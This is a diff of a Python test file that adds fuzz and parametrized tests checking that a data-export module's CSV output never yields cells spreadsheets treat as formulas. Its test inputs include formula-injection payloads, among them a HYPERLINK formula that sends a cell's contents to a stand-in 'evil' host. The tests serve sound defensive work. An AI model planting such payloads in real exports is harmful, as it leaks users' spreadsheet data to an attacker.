@@ -10,9 +10,12 @@ import zipfile
 import openpyxl
 import pandas as pd
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from seer_nb.export import export, formats
 from seer_nb.results import curves_frame, events_frame, results_frame, spending_frame
+from tests.fuzz.told import examples
 from tests.hostile.texts import ALL, FORMULAS, SCRIPTS, assert_harmless, study
 from tests.refusals import make, raised
 
@@ -57,11 +60,53 @@ def test_csv(tables, numbers, tmp_path):
             for cell, kind in zip(row, table.dtypes, strict=True):
                 numeric = kind.kind in "if" and row is not rows[0]
                 assert numeric or not RUNS.match(cell), cell
-                # Nor where a spreadsheet parts cells at semicolons or tabs.
-                assert not any(re.match(r"\s*[=+\-@]", part) for part in re.split("[;\t]", cell)[1:]), cell
     back = pd.read_csv(tmp_path / "r.csv")
     assert back["n"].tolist() == [-1.5, 2.0]
     assert back["k"].tolist() == [-3, 4]
+
+
+def written(frame, path):
+    return export(frame, path).read_bytes().decode()
+
+
+def cells(text, separator):
+    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
+
+
+TEMPTING = st.text(st.sampled_from("=+-@\uff1d\uff0b;\t\n\r\",' \u2003a1"), max_size=12)
+WHICH_BEGINS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+
+
+@examples(300)
+@given(st.lists(st.tuples(TEMPTING, TEMPTING, TEMPTING), min_size=1, max_size=3), st.booleans())
+def test_no_cell_of_a_csv_file_is_a_formula_whatever_parts_them(tmp_path_factory, rows, numbered):
+    """Commas where we wrote it; but where a comma stands in numbers, spreadsheets take semicolons. Some try tabs."""
+    table = pd.DataFrame(rows, columns=["a", "b", "c"])
+    if numbered:
+        table.insert(0, "trial", range(len(table)))
+    text = written(table, tmp_path_factory.getbasetemp() / "any.csv")
+    for separator in ",;\t":
+        assert not [cell for cell in cells(text, separator) if WHICH_BEGINS.match(cell)], separator
+    assert {len(row) for row in csv.reader(io.StringIO(text, newline=""))} == {len(table.columns)}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['ValueError: x\n=HYPERLINK("http://evil/?"&A1)', 'x;"=1+1;y', "a;\uff1d1+1", "a\n\t;@x", 'a;" "+1', "a;\u2003=1"],
+)
+def test_formulas_that_a_semicolon_a_tab_or_a_line_brings_forth(tmp_path, text):
+    table = pd.DataFrame({"trial": [0], "error": [text]})
+    for separator in ",;\t":
+        assert not [cell for cell in cells(written(table, tmp_path / "r.csv"), separator) if WHICH_BEGINS.match(cell)]
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("gap", ["\t", ";", '"', " ", "\n", "; ", ';"', "\t "])
+def test_a_long_gap_is_looked_at_once(tmp_path, gap):
+    """From each of its characters anew, a million would take hours."""
+    long = gap * (1_000_000 // len(gap))
+    text = written(pd.DataFrame({"error": [f"x{long}", f"x{long}=1"]}), tmp_path / "r.csv")
+    assert len(text) > 2 * len(long)
 
 
 def test_what_pandas_reads_back(tmp_path):
